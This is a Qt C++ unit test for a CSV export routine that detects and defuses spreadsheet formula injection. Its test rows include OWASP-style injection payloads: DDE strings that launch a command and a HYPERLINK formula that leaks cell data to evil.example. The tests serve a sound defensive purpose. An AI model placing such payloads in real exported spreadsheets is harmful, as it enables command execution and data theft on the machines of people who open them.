// SPDX-License-Identifier: GPL-3.0-or-later
#include "support/TestMain.h"
#include "ui/document/export/Csv.h"

#include <QTest>

using gpuatlas::ui::exporting::Csv;

class tst_Csv : public QObject
{
    Q_OBJECT

private slots:
    void startsFormula_data();
    void startsFormula();
    void field_data();
    void field();
    void document();
};

void tst_Csv::startsFormula_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<bool>("formula");
    // OWASP's CSV injection prefixes.
    QTest::newRow("equals") << QStringLiteral("=1+1") << true;
    QTest::newRow("dde") << QStringLiteral("=cmd|' /C calc'!A0") << true;
    QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")") << true;
    QTest::newRow("plus") << QStringLiteral("+cmd|' /C calc'!A0") << true;
    QTest::newRow("minus") << QStringLiteral("-cmd|' /C calc'!A0") << true;
    QTest::newRow("at") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0") << true;
    QTest::newRow("tab") << QStringLiteral("\t=1+1") << true;
    QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << true;
    QTest::newRow("line feed") << QStringLiteral("\n=1+1") << true;
    // A digit after the sign is not enough: Excel runs -1+1 (and DDE payloads after it).
    QTest::newRow("minus digit formula") << QStringLiteral("-1+cmd|' /C calc'!A0") << true;
    QTest::newRow("plus digit formula") << QStringLiteral("+2+3") << true;
    QTest::newRow("lone minus") << QStringLiteral("-") << true;
    // Numbers stay numbers.
    QTest::newRow("negative") << QStringLiteral("-3.5") << false;
    QTest::newRow("negative integer") << QStringLiteral("-12") << false;
    QTest::newRow("negative fraction") << QStringLiteral("-.5") << false;
    QTest::newRow("positive") << QStringLiteral("+2") << false;
    QTest::newRow("exponent") << QStringLiteral("-1.5e-3") << false;
    QTest::newRow("number") << QStringLiteral("989.4") << false;
    QTest::newRow("text") << QStringLiteral("NVIDIA H100") << false;
    QTest::newRow("formula later") << QStringLiteral("a=1+1") << false;
    QTest::newRow("space first") << QStringLiteral(" =1") << false;
    QTest::newRow("empty") << QString() << false;
}

void tst_Csv::startsFormula()
{
    QFETCH(QString, cell);
    QFETCH(bool, formula);
    QCOMPARE(Csv::startsFormula(cell), formula);
}

void tst_Csv::field_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QString>("expected");
    QTest::newRow("plain") << QStringLiteral("L40S") << QStringLiteral("L40S");
    QTest::newRow("number") << QStringLiteral("-3.5") << QStringLiteral("-3.5");
    QTest::newRow("comma") << QStringLiteral("Acme, Inc.") << QStringLiteral("\"Acme, Inc.\"");
    QTest::newRow("quote") << QStringLiteral("a \"b\"") << QStringLiteral("\"a \"\"b\"\"\"");
    QTest::newRow("line break") << QStringLiteral("a\nb") << QStringLiteral("\"a\nb\"");
    // Defused: apostrophe first, always quoted (OWASP).
    QTest::newRow("formula") << QStringLiteral("=1+1") << QStringLiteral("\"'=1+1\"");
    QTest::newRow("dde") << QStringLiteral("=cmd|' /C calc'!A0") << QStringLiteral("\"'=cmd|' /C calc'!A0\"");
    QTest::newRow("formula with quotes") << QStringLiteral("=HYPERLINK(\"x\")")
                                         << QStringLiteral("\"'=HYPERLINK(\"\"x\"\")\"");
    QTest::newRow("tab") << QStringLiteral("\tx") << QStringLiteral("\"'\tx\"");
    QTest::newRow("carriage return") << QStringLiteral("\rx") << QStringLiteral("\"'\rx\"");
    QTest::newRow("empty") << QString() << QString();
}

void tst_Csv::field()
{
    QFETCH(QString, cell);
    QFETCH(QString, expected);
    QCOMPARE(Csv::field(cell), expected);
}

void tst_Csv::document()
{
    const QByteArray csv = Csv::document(
        {{QStringLiteral("GPU"), QStringLiteral("显存 (GB)")}, {QStringLiteral("@x"), QStringLiteral("-80")}});
    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF") + QStringLiteral("GPU,显存 (GB)\r\n\"'@x\",-80\r\n").toUtf8());
    QCOMPARE(Csv::record({}), QStringLiteral("\r\n"));
}

GPUATLAS_TEST_MAIN(tst_Csv)
#include "tst_Csv.moc"
